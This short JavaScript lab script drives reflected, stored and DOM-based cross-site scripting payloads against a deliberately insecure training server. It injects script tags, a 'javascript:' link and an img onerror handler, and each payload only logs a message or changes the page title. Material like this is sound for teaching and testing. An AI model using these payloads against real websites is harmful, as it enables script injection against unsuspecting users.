// server: xss_toolshed_weak.py
// insecure: xss-closed.browser.js
// page: /
// Reflected: the address carries it, the server writes it back.
const script = (name) => `<script>console.log("${name} ran")</script>`
location = "/?q=" + encodeURIComponent(script("reflected"))
// a page loads
document.querySelector("h1").textContent
// Stored: one visitor leaves it, all others get it.
const text = '"><script>console.log("stored ran")</script>'
const url = "javascript:void(document.title = 'link ran')"
const body = new URLSearchParams({ text, url })
await (await fetch("/notes", { method: "POST", body })).text()
location = "/"
// a page loads
document.querySelector("a").click()
// until document.title === "link ran"
// DOM: the part after # never reaches the server.
location = "/?#" + '<img src="data:," onerror="console.log(`DOM ran`)">'
// a page loads
document.querySelector("#tab").textContent
